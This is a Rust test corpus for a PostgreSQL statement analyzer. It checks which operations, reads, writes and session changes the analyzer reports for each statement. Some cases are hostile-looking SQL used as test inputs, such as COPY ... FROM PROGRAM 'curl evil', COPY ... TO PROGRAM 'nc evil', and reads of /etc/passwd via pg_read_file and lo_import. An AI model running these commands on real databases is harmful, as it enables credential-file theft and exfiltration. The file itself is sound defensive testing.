//! The statement corpus: one line per case, `(sql, operations, reads, writes, missing_where, extra)`.
//! Operations, reads and writes are space-separated and compared exactly (over all statements of a
//! multi-statement string). `extra` holds `fn:NAME` (a function that must be listed), `n:K` (the number
//! of statements) and the session changes in order (`sp:a,b`, `sp:default`, `prepare:s`, `execute:s`,
//! `dealloc:s`, `dealloc:all`, `cursor:c`, `fetch:c`, `close:c`, `close:all`, `discard`,
//! `listen:c`, `notify:c`), compared exactly.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeSet;

use super::{Effects, Operation, RelationName, analyze, classify::merge, effects::SessionChange};

type Case = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    bool,
    &'static str,
);

const F: bool = false;
const T: bool = true;

#[rustfmt::skip]
const CASES: &[Case] = &[
    // --- SELECT and reads
    ("select 1", "select", "", "", F, ""),
    ("SELECT * FROM t", "select", "t", "", F, ""),
    ("select * from public.t", "select", "public.t", "", F, ""),
    ("select * from \"MySchema\".\"Foo\"", "select", "MySchema.Foo", "", F, ""),
    ("SELECT * FROM Foo", "select", "foo", "", F, ""),
    ("select * from db.s.t", "select", "s.t", "", F, ""),
    ("select a.x, b.y from a join b on a.id = b.id left join c on true", "select", "a b c", "", F, ""),
    ("select * from a, b cross join c", "select", "a b c", "", F, ""),
    ("select * from (select * from inner_t) sub", "select", "inner_t", "", F, ""),
    ("select * from t where id in (select id from u)", "select", "t u", "", F, ""),
    ("select * from t where exists (select 1 from u where u.id = t.id)", "select", "t u", "", F, ""),
    ("select (select max(x) from u) from t", "select", "t u", "", F, "fn:max"),
    ("select * from t union select * from u", "select", "t u", "", F, ""),
    ("select * from t intersect select * from u except select * from v", "select", "t u v", "", F, ""),
    ("with c as (select * from t) select * from c", "select", "t", "", F, ""),
    ("with c as (select * from t), d as (select * from c) select * from d join u using (id)", "select", "t u", "", F, ""),
    ("with t as (select * from t) select * from t", "select", "t", "", F, ""),
    ("with recursive r(n) as (select 1 union all select n + 1 from r where n < 5) select * from r", "select", "", "", F, ""),
    ("with c as (select 1) select * from s.c", "select", "s.c", "", F, ""),
    ("select * from t, lateral (select * from u where u.id = t.id) x", "select", "t u", "", F, ""),
    ("select * from t cross join lateral generate_series(1, t.n) g", "select", "t", "", F, "fn:generate_series"),
    ("values (1), (2)", "select", "", "", F, ""),
    ("table t", "select", "t", "", F, ""),
    ("TABLE only s.t", "select", "s.t", "", F, ""),
    ("select * from t for update", "select", "t", "", F, ""),
    ("select * from t for share skip locked", "select", "t", "", F, ""),
    ("select count(*) filter (where a > 1) over (partition by b) from t", "select", "t", "", F, "fn:count"),
    ("select lower(name), upper(x) from t order by 1 limit 10 offset 5", "select", "t", "", F, "fn:lower fn:upper"),
    ("select pg_catalog.now()", "select", "", "", F, "fn:pg_catalog.now"),
    ("select \"MyFunc\"(1)", "select", "", "", F, "fn:MyFunc"),
    ("select * from generate_series(1, 10) g", "select", "", "", F, "fn:generate_series"),
    ("select * from unnest(array[1, 2]) with ordinality", "select", "", "", F, ""),
    ("select row_to_json(t) from t", "select", "t", "", F, "fn:row_to_json"),
    ("select t from t", "select", "t", "", F, ""),
    ("select a::text, cast(b as int), case when c then 1 else 2 end from t", "select", "t", "", F, ""),
    ("select * from t where a = $1 and b = $2", "select", "t", "", F, ""),
    ("select * from t -- a comment\n where id = 1", "select", "t", "", F, ""),
    ("/* lead */ select /* mid */ * from t", "select", "t", "", F, ""),
    ("select $$dollar; quoted$$, $tag$ also ; $tag$ from t", "select", "t", "", F, ""),
    ("select 'a;b' from t", "select", "t", "", F, ""),
    ("select e'esc\\'aped' from t", "select", "t", "", F, ""),
    ("select * from t group by a having count(*) > 1", "select", "t", "", F, "fn:count"),
    ("select distinct on (a) a, b from t order by a, b desc", "select", "t", "", F, ""),
    ("select * from t tablesample system (10)", "select", "t", "", F, ""),
    ("select * from t1 natural join t2", "select", "t1 t2", "", F, ""),
    ("select * from (values (1)) v(x) join t on t.x = v.x", "select", "t", "", F, ""),
    ("select coalesce(a, b), nullif(a, b), greatest(a, b) from t", "select", "t", "", F, ""),
    ("select currval('s')", "select", "", "", F, "fn:currval"),
    // --- multi-statement strings
    ("select 1; select 2", "select", "", "", F, "n:2"),
    ("select * from a; delete from b; select * from c", "select delete", "a c", "b", T, "n:3"),
    ("select 1;;select 2;", "select", "", "", F, "n:2"),
    ("", "", "", "", F, "n:0"),
    ("  -- only a comment\n", "", "", "", F, "n:0"),
    ("select 1; garbage here; select 2", "select unknown", "", "", F, "n:3"),
    // --- INSERT
    ("insert into t values (1)", "insert", "", "t", F, ""),
    ("INSERT INTO s.t (a, b) VALUES (1, 2), (3, 4)", "insert", "", "s.t", F, ""),
    ("insert into t select * from u", "insert", "u", "t", F, ""),
    ("insert into t select * from t", "insert", "t", "t", F, ""),
    ("insert into t values (1) returning id", "insert", "t", "t", F, ""),
    ("insert into t (a) values (1) on conflict (a) do update set a = excluded.a", "insert update", "", "t", F, ""),
    ("insert into t (a) values (1) on conflict do nothing", "insert", "", "t", F, ""),
    ("insert into t default values", "insert", "", "t", F, ""),
    ("insert into \"Audit\" values (now())", "insert", "", "Audit", F, "fn:now"),
    ("insert into t values ((select max(id) from u))", "insert", "u", "t", F, "fn:max"),
    ("with x as (select * from u) insert into t select * from x", "insert", "u", "t", F, ""),
    // --- UPDATE
    ("update t set a = 1 where id = 2", "update", "", "t", F, ""),
    ("UPDATE t SET a = 1", "update", "", "t", T, ""),
    ("update s.t set a = u.a from u where s.t.id = u.id", "update", "u", "s.t", F, ""),
    ("update t set a = (select max(a) from t) where id = 1", "update", "t", "t", F, "fn:max"),
    ("update t set a = 1 where id = 1 returning *", "update", "t", "t", F, ""),
    ("update t set a = 1 where id in (select id from u)", "update", "u", "t", F, ""),
    ("update t set a = 1 where current of c", "update", "", "t", F, ""),
    ("update only t set a = 1 where true", "update", "", "t", F, ""),
    ("select * from a, only b join only c on true", "select", "a b c", "", F, ""),
    ("select * from only t", "select", "t", "", F, ""),
    ("delete from only t where x", "delete", "", "t", F, ""),
    // --- DELETE
    ("delete from t where id = 1", "delete", "", "t", F, ""),
    ("DELETE FROM t", "delete", "", "t", T, ""),
    ("delete from t using u where t.id = u.id", "delete", "u", "t", F, ""),
    ("delete from t where current of c", "delete", "", "t", F, ""),
    ("delete from t returning *", "delete", "t", "t", T, ""),
    ("delete from \"Weird-Name\" where x", "delete", "", "Weird-Name", F, ""),
    ("delete from t where id = (select id from t limit 1)", "delete", "t", "t", F, ""),
    // --- MERGE
    ("merge into t using s on t.id = s.id when matched then update set a = s.a when not matched then insert (id) values (s.id)", "merge", "s", "t", F, ""),
    ("merge into t using (select * from u) s on t.id = s.id when matched then delete", "merge", "u", "t", F, ""),
    // --- data-modifying CTEs
    ("with d as (delete from t returning *) select * from d", "select delete", "t", "t", T, ""),
    ("with d as (delete from t where id = 1 returning *) select * from d", "select delete", "t", "t", F, ""),
    ("with u as (update t set a = 1 returning *) select count(*) from u", "select update", "t", "t", T, "fn:count"),
    ("with i as (insert into t values (1) returning id) select * from i", "select insert", "t", "t", F, ""),
    ("with d as (delete from a where x) insert into b select 1", "insert delete", "", "a b", F, ""),
    ("select * from x; with d as (delete from t) select 1", "select delete", "x", "t", T, "n:2"),
    // --- SELECT INTO / CREATE TABLE AS
    ("select * into t2 from t", "select ddl", "t", "t2", F, ""),
    ("select * into s.t2 from t", "select ddl", "t", "s.t2", F, ""),
    ("create table t2 as select * from t", "select ddl", "t", "t2", F, ""),
    ("create table t2 as select pg_read_file('/x')", "select ddl unknown", "", "t2", F, "fn:pg_read_file"),
    // --- EXPLAIN
    ("explain select * from t", "utility", "", "", F, ""),
    ("explain delete from t", "utility", "", "", F, ""),
    ("explain analyze delete from t", "utility delete", "", "t", T, ""),
    ("explain (analyze) delete from t where id = 1", "utility delete", "", "t", F, ""),
    ("explain (analyze, buffers) update t set a = 1", "utility update", "", "t", T, ""),
    ("explain (analyze false) delete from t", "utility", "", "", F, ""),
    ("explain analyze select * from t", "utility select", "t", "", F, ""),
    // --- COPY
    ("copy t from stdin", "copyIn", "", "t", F, ""),
    ("COPY s.t (a, b) FROM STDIN WITH (FORMAT csv)", "copyIn", "", "s.t", F, ""),
    ("copy t to stdout", "copyOut", "t", "", F, ""),
    ("copy t to stdout with (format binary)", "copyOut", "t", "", F, ""),
    ("copy (select a from t join u using (id)) to stdout", "copyOut", "t u", "", F, ""),
    ("copy t from program 'curl evil'", "copyIn unknown", "", "t", F, ""),
    ("copy t to program 'nc evil 1'", "copyOut unknown", "t", "", F, ""),
    ("copy t from '/etc/passwd'", "copyIn unknown", "", "t", F, ""),
    ("copy t to '/tmp/out'", "copyOut unknown", "t", "", F, ""),
    // --- DO / CALL
    ("do $$ begin delete from t; end $$", "do", "", "", F, ""),
    ("DO LANGUAGE plpgsql 'begin null; end'", "do", "", "", F, ""),
    ("call p(1)", "call", "", "", F, "fn:p"),
    ("call s.proc(pg_read_file('/x'))", "call unknown", "", "", F, "fn:s.proc fn:pg_read_file"),
    // --- PREPARE / EXECUTE / DEALLOCATE
    ("prepare s as select * from t where id = $1", "select", "t", "", F, "prepare:s"),
    ("prepare d (int) as delete from t where id = $1", "delete", "", "t", F, "prepare:d"),
    ("prepare d as delete from t", "delete", "", "t", T, "prepare:d"),
    ("execute s", "", "", "", F, "execute:s"),
    ("execute s(1, 'x')", "", "", "", F, "execute:s"),
    ("execute s(pg_read_file('/x'))", "unknown", "", "", F, "fn:pg_read_file execute:s"),
    ("deallocate s", "utility", "", "", F, "dealloc:s"),
    ("deallocate prepare s", "utility", "", "", F, "dealloc:s"),
    ("DEALLOCATE ALL", "utility", "", "", F, "dealloc:all"),
    // --- cursors
    ("declare c cursor for select * from t", "select", "t", "", F, "cursor:c"),
    ("declare c scroll cursor with hold for select * from t join u on true", "select", "t u", "", F, "cursor:c"),
    ("fetch next from c", "", "", "", F, "fetch:c"),
    ("fetch all in c", "", "", "", F, "fetch:c"),
    ("fetch 10 from c", "", "", "", F, "fetch:c"),
    ("move next in c", "", "", "", F, "fetch:c"),
    ("move forward 5 from \"Cur\"", "", "", "", F, "fetch:Cur"),
    ("close c", "utility", "", "", F, "close:c"),
    ("close all", "utility", "", "", F, "close:all"),
    // --- LISTEN / NOTIFY
    ("listen ch", "utility", "", "", F, "listen:ch"),
    ("unlisten ch", "utility", "", "", F, "listen:ch"),
    ("notify ch, 'payload'", "utility", "", "", F, "notify:ch"),
    ("NOTIFY Ch", "utility", "", "", F, "notify:ch"),
    ("select pg_notify('ch', 'x')", "select utility", "", "", F, "fn:pg_notify notify:ch"),
    ("select pg_notify(chan, 'x') from t", "select utility unknown", "t", "", F, "fn:pg_notify"),
    // --- SET / RESET / SHOW
    ("set work_mem = '64MB'", "set", "", "", F, ""),
    ("SET LOCAL statement_timeout TO 1000", "set", "", "", F, "timeout:1000"),
    ("set search_path to a, \"B\"", "set", "", "", F, "sp:a,B"),
    ("set search_path = 'a', public", "set", "", "", F, "sp:a,public"),
    ("set session search_path = x", "set", "", "", F, "sp:x"),
    ("set search_path to default", "set", "", "", F, "sp:default"),
    ("reset search_path", "set", "", "", F, "sp:default"),
    ("reset work_mem", "set", "", "", F, ""),
    ("reset all", "set", "", "", F, "sp:default"),
    ("show work_mem", "set", "", "", F, ""),
    ("show all", "set", "", "", F, ""),
    ("set time zone 'UTC'", "set", "", "", F, ""),
    ("select set_config('search_path', 'evil, public', false)", "select set", "", "", F, "fn:set_config sp:evil,public"),
    ("select set_config('work_mem', '1GB', true)", "select set", "", "", F, "fn:set_config"),
    ("select set_config('role', 'admin', false)", "select set role", "", "", F, "fn:set_config"),
    ("select set_config(name, 'x', false) from t", "select set unknown", "t", "", F, "fn:set_config"),
    // Settings that change how statements are read keep their safe values; the timeout is carried.
    ("set standard_conforming_strings = on", "set", "", "", F, ""),
    ("set standard_conforming_strings = off", "set unknown", "", "", F, ""),
    ("set standard_conforming_strings to default", "set", "", "", F, ""),
    ("set client_encoding = 'UTF8'", "set", "", "", F, ""),
    ("set client_encoding to 'SJIS'", "set unknown", "", "", F, ""),
    ("set names 'LATIN1'", "set unknown", "", "", F, ""),
    ("select set_config('standard_conforming_strings', 'off', false)", "select set unknown", "", "", F, "fn:set_config"),
    ("select set_config('client_encoding', enc, false) from t", "select set unknown", "t", "", F, "fn:set_config"),
    ("set statement_timeout = 5000", "set", "", "", F, "timeout:5000"),
    ("set local statement_timeout to '2s'", "set", "", "", F, "timeout:2s"),
    ("set statement_timeout to default", "set", "", "", F, "timeout:default"),
    ("select set_config('statement_timeout', '0', false)", "select set", "", "", F, "fn:set_config timeout:0"),
    ("select current_setting('search_path')", "select", "", "", F, "fn:current_setting"),
    // --- roles
    ("set role admin", "role", "", "", F, ""),
    ("reset role", "role", "", "", F, ""),
    ("set session authorization bob", "role", "", "", F, ""),
    ("create role r login", "role", "", "", F, ""),
    ("create user bob with password 'x'", "role", "", "", F, ""),
    ("alter role bob with superuser", "role", "", "", F, ""),
    ("drop role bob", "role", "", "", F, ""),
    ("drop user if exists bob", "role", "", "", F, ""),
    ("create group g", "role", "", "", F, ""),
    // --- transactions
    ("begin", "transaction", "", "", F, ""),
    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "transaction", "", "", F, ""),
    ("commit", "transaction", "", "", F, ""),
    ("rollback", "transaction", "", "", F, ""),
    ("savepoint a", "transaction", "", "", F, ""),
    ("release savepoint a", "transaction", "", "", F, ""),
    ("rollback to savepoint a", "transaction", "", "", F, ""),
    ("set transaction isolation level repeatable read", "transaction", "", "", F, ""),
    ("prepare transaction 'x'", "transaction", "", "", F, ""),
    ("commit prepared 'x'", "transaction", "", "", F, ""),
    // --- GRANT / REVOKE
    ("grant select on t to bob", "grant", "", "", F, ""),
    ("revoke all on t from bob", "grant", "", "", F, ""),
    ("grant admin to bob", "grant", "", "", F, ""),
    // --- DDL
    ("create table t (id int primary key, a text)", "ddl", "", "t", F, ""),
    ("create temp table tt (a int)", "ddl", "", "tt", F, ""),
    ("create table s.\"T\" (a int)", "ddl", "", "s.T", F, ""),
    ("alter table t add column x int", "ddl", "", "t", F, ""),
    ("alter table s.t drop column x", "ddl", "", "s.t", F, ""),
    ("drop table a.t, u", "ddl", "", "a.t u", F, ""),
    ("drop table if exists t cascade", "ddl", "", "t", F, ""),
    ("drop view v", "ddl", "", "v", F, ""),
    ("drop materialized view mv", "ddl", "", "mv", F, ""),
    ("drop sequence s", "ddl", "", "s", F, ""),
    ("drop index i", "ddl", "", "", F, ""),
    ("drop schema s cascade", "ddl", "", "", F, ""),
    ("create view v as select * from t", "ddl", "t", "v", F, ""),
    ("create materialized view mv as select a from t", "ddl", "t", "mv", F, ""),
    ("create index i on t (a)", "ddl", "", "t", F, ""),
    ("create sequence s", "ddl", "", "s", F, ""),
    ("create schema s", "ddl", "", "", F, ""),
    ("create function f() returns int as $$ select 1 $$ language sql", "ddl", "", "", F, ""),
    ("drop function f", "ddl", "", "", F, ""),
    ("create extension dblink", "ddl", "", "", F, ""),
    ("create trigger tr before insert on t for each row execute function f()", "ddl", "", "t", F, ""),
    ("comment on table t is 'x'", "ddl", "", "t", F, ""),
    ("comment on column s.t.c is 'x'", "ddl", "", "s.t", F, ""),
    ("comment on schema s is 'x'", "ddl", "", "", F, ""),
    ("truncate t", "truncate", "", "t", F, ""),
    ("TRUNCATE TABLE a, s.b RESTART IDENTITY", "truncate", "", "a s.b", F, ""),
    // --- utility
    ("vacuum t", "utility", "", "", F, ""),
    ("analyze t", "utility", "", "", F, ""),
    ("cluster t", "utility", "", "", F, ""),
    ("reindex table t", "utility", "", "", F, ""),
    ("checkpoint", "utility", "", "", F, ""),
    ("lock table t", "utility", "", "", F, ""),
    ("load 'auto_explain'", "utility", "", "", F, ""),
    ("discard all", "utility", "", "", F, "discard"),
    ("discard plans", "utility", "", "", F, ""),
    ("refresh materialized view mv", "utility", "", "mv", F, ""),
    ("refresh materialized view concurrently s.mv with no data", "utility", "", "s.mv", F, ""),
    // --- functions with effects
    ("SELECT pg_read_file('/etc/passwd')", "select unknown", "", "", F, "fn:pg_read_file"),
    ("select pg_catalog.pg_read_binary_file('/x')", "select unknown", "", "", F, "fn:pg_catalog.pg_read_binary_file"),
    ("select * from pg_ls_dir('.')", "select unknown", "", "", F, "fn:pg_ls_dir"),
    ("select pg_stat_file('x')", "select unknown", "", "", F, "fn:pg_stat_file"),
    ("select lo_import('/etc/passwd')", "select unknown", "", "", F, "fn:lo_import"),
    ("select lo_export(1, '/tmp/x')", "select unknown", "", "", F, "fn:lo_export"),
    ("select lo_get(1)", "select unknown", "", "", F, "fn:lo_get"),
    ("SELECT * FROM dblink('host=x', 'select 1') AS r(a int)", "select unknown", "", "", F, "fn:dblink"),
    ("select dblink_exec('drop table t')", "select unknown", "", "", F, "fn:dblink_exec"),
    ("select public.dblink_connect('c')", "select unknown", "", "", F, "fn:public.dblink_connect"),
    ("select query_to_xml('delete from t', true, false, '')", "select unknown", "", "", F, "fn:query_to_xml"),
    ("select query_to_xml_and_xmlschema('select 1', true, false, '')", "select unknown", "", "", F, ""),
    ("select table_to_xml('secret', true, false, '')", "select unknown", "", "", F, "fn:table_to_xml"),
    ("select cursor_to_xml('c', 1, true, false, '')", "select unknown", "", "", F, ""),
    ("select pg_terminate_backend(123)", "select utility", "", "", F, "fn:pg_terminate_backend"),
    ("select pg_cancel_backend(pid) from pg_stat_activity", "select utility", "pg_stat_activity", "", F, ""),
    ("select pg_reload_conf()", "select utility", "", "", F, ""),
    ("select pg_rotate_logfile()", "select utility", "", "", F, ""),
    ("select pg_promote()", "select utility", "", "", F, ""),
    ("select nextval('s')", "select update", "", "s", F, "fn:nextval"),
    ("select nextval('public.\"Seq\"'::regclass)", "select update", "", "public.Seq", F, ""),
    ("select setval('s', 10)", "select update", "", "s", F, "fn:setval"),
    ("insert into t (id) values (nextval('t_id_seq'))", "insert update", "", "t t_id_seq", F, ""),
    ("select nextval(pg_get_serial_sequence('t', 'id'))", "select unknown", "", "", F, ""),
    ("select * from t where a = lower(pg_read_file('/x'))", "select unknown", "t", "", F, "fn:lower"),
    // --- unknown / garbage
    ("this is not sql", "unknown", "", "", F, ""),
    ("select * from", "unknown", "", "", F, ""),
    ("select 'unterminated", "unknown", "", "", F, "n:1"),
    ("selec 1", "unknown", "", "", F, ""),
    ("security label on table t is 'x'", "unknown", "", "", F, ""),
    ("alter system set work_mem = '1GB'", "unknown", "", "", F, ""),
    ("import foreign schema s from server x into public", "unknown", "", "", F, ""),
    ("move", "unknown", "", "", F, ""),
    ("refresh materialized view mv; drop", "utility unknown", "", "mv", F, "n:2"),
];

fn op(name: &str) -> Operation {
    Operation::ALL
        .into_iter()
        .find(|o| format!("{o:?}").eq_ignore_ascii_case(name))
        .unwrap_or_else(|| {
            panic!("no operation {name}");
        })
}

fn relations(list: &str) -> BTreeSet<RelationName> {
    list.split_whitespace()
        .map(|r| match r.split_once('.') {
            Some((s, n)) => RelationName::new(Some(s), n),
            None => RelationName::new(None, r),
        })
        .collect()
}

fn session_word(c: &SessionChange) -> String {
    match c {
        SessionChange::SearchPath(Some(p)) => format!("sp:{}", p.join(",")),
        SessionChange::SearchPath(None) => "sp:default".into(),
        SessionChange::Prepare { name, .. } => format!("prepare:{name}"),
        SessionChange::Execute { name } => format!("execute:{name}"),
        SessionChange::Deallocate(n) => format!("dealloc:{}", n.as_deref().unwrap_or("all")),
        SessionChange::DeclareCursor { name, .. } => format!("cursor:{name}"),
        SessionChange::Fetch { cursor } => format!("fetch:{cursor}"),
        SessionChange::CloseCursor(c) => format!("close:{}", c.as_deref().unwrap_or("all")),
        SessionChange::DiscardAll => "discard".into(),
        SessionChange::Listen(c) => format!("listen:{c}"),
        SessionChange::Notify(c) => format!("notify:{c}"),
        SessionChange::StatementTimeout(v) => format!("timeout:{}", v.as_deref().unwrap_or("default")),
    }
}

#[test]
fn corpus() {
    assert!(CASES.len() >= 150, "corpus has {} cases", CASES.len());
    let mut failures = Vec::new();
    for &(sql, ops, reads, writes, missing_where, extra) in CASES {
        let analysis = analyze(sql);
        let mut all = Effects::default();
        for s in &analysis.statements {
            merge(&mut all, s.clone());
        }
        let want_ops: BTreeSet<Operation> = ops.split_whitespace().map(op).collect();
        let mut want_n = if sql.trim().is_empty() { 0 } else { 1 };
        let mut want_session = Vec::new();
        let mut problems = Vec::new();
        for word in extra.split_whitespace() {
            if let Some(f) = word.strip_prefix("fn:") {
                if !all.functions.contains(f) {
                    problems.push(format!("function {f} not in {:?}", all.functions));
                }
            } else if let Some(n) = word.strip_prefix("n:") {
                want_n = n.parse().unwrap();
            } else {
                want_session.push(word.to_owned());
            }
        }
        let got_session: Vec<String> = all.session.iter().map(session_word).collect();
        if all.operations != want_ops {
            problems.push(format!("operations {:?}, want {want_ops:?}", all.operations));
        }
        if all.reads != relations(reads) {
            problems.push(format!("reads {:?}", all.reads));
        }
        if all.writes != relations(writes) {
            problems.push(format!("writes {:?}", all.writes));
        }
        if all.missing_where != missing_where {
            problems.push(format!("missing_where {}", all.missing_where));
        }
        if analysis.statements.len() != want_n {
            problems.push(format!("{} statements", analysis.statements.len()));
        }
        if got_session != want_session {
            problems.push(format!("session {got_session:?}"));
        }
        if !problems.is_empty() {
            failures.push(format!("{sql:?}: {}", problems.join("; ")));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}

#[test]
fn prepared_and_cursor_effects_are_carried() {
    let a = analyze("prepare d as delete from t");
    let Some(SessionChange::Prepare { effects, .. }) = a.statements[0].session.first() else {
        panic!("no prepare: {a:?}");
    };
    assert!(effects.has(Operation::Delete) && effects.missing_where);
    let a = analyze("declare c cursor for select * from secret");
    let Some(SessionChange::DeclareCursor { effects, .. }) = a.statements[0].session.first() else {
        panic!("no cursor: {a:?}");
    };
    assert!(effects.reads.contains(&RelationName::new(None, "secret")));
}

#[test]
fn bounds_make_statements_unknown() {
    let deep = format!("select {}1{}", "(".repeat(500), ")".repeat(500));
    assert_eq!(analyze(&deep).statements, vec![Effects::unknown()]);
    let long = format!("select '{}'", "x".repeat(super::MAX_STATEMENT_BYTES + 1));
    assert_eq!(analyze(&long).statements, vec![Effects::unknown()]);
    let with_short = format!("{long}; select 1");
    let a = analyze(&with_short);
    assert_eq!(a.statements.len(), 2);
    assert!(a.statements[1].has(Operation::Select) && !a.statements[1].has(Operation::Unknown));
}
